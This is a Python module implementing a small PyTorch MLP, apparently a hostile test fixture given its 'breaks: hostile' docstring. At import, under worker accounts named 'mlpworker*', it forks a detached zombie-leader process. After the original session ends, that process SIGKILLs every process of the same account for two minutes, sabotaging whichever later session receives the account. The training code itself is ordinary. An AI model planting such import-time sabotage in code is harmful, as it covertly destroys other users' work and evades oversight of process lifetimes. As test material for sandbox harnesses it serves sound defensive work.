"""At import, forks a child that calls setsid, starts a thread and ends only its main
thread (the process shows Z in /proc while the thread runs). Once its own worker is gone
the thread SIGKILLs, for two minutes, every process of its account: the next session
given that account. Otherwise correct.

Acts only as a worker account (mlpworker*), never as the user running the tests.

breaks: hostile
hint: none
"""
import ctypes
import os
import platform
import pwd
import signal
import threading
import time

import torch

SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(platform.machine())


def _killer(worker):
    while True:   # wait until the session that started us has ended
        try:
            os.kill(worker, 0)
        except ProcessLookupError:
            break
        except PermissionError:
            pass
        time.sleep(0.05)
    uid, me, end = os.getuid(), os.getpid(), time.monotonic() + 120
    while time.monotonic() < end:
        for pid in os.listdir("/proc"):
            try:
                if pid.isdigit() and int(pid) != me and os.stat(f"/proc/{pid}").st_uid == uid:
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.01)


def _start():
    if not pwd.getpwuid(os.getuid()).pw_name.startswith("mlpworker") or SYS_EXIT is None:
        return
    worker = os.getpid()
    if os.fork() == 0:
        os.setsid()
        threading.Thread(target=_killer, args=(worker,)).start()
        ctypes.CDLL(None).syscall(SYS_EXIT, 0)   # ends this thread only: the main one
        os._exit(0)   # not reached
    print("ZOMBIE LEADER STARTED", flush=True)


_start()


def forward(X, params):
    Z1 = X @ params["W1"] + params["b1"]
    A1 = torch.relu(Z1)
    Z2 = A1 @ params["W2"] + params["b2"]
    A2 = torch.sigmoid(Z2)
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def bce_loss(A2, Y, pos_weight=1.0):
    eps = torch.finfo(A2.dtype).eps
    p = A2.clamp(eps, 1 - eps)
    return -(pos_weight * Y * torch.log(p) + (1 - Y) * torch.log1p(-p)).mean()


def backward(X, Y, params, cache, pos_weight=1.0):
    m = X.shape[0]
    dZ2 = (cache["A2"] * (pos_weight * Y + 1 - Y) - pos_weight * Y) / m
    dW2 = cache["A1"].T @ dZ2
    db2 = dZ2.sum(dim=0)
    dZ1 = (dZ2 @ params["W2"].T) * (cache["Z1"] > 0).to(X.dtype)
    dW1 = X.T @ dZ1
    db1 = dZ1.sum(dim=0)
    return {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}


def sgd_step(params, grads, lr):
    return {k: params[k] - lr * grads["d" + k] for k in ("W1", "b1", "W2", "b2")}
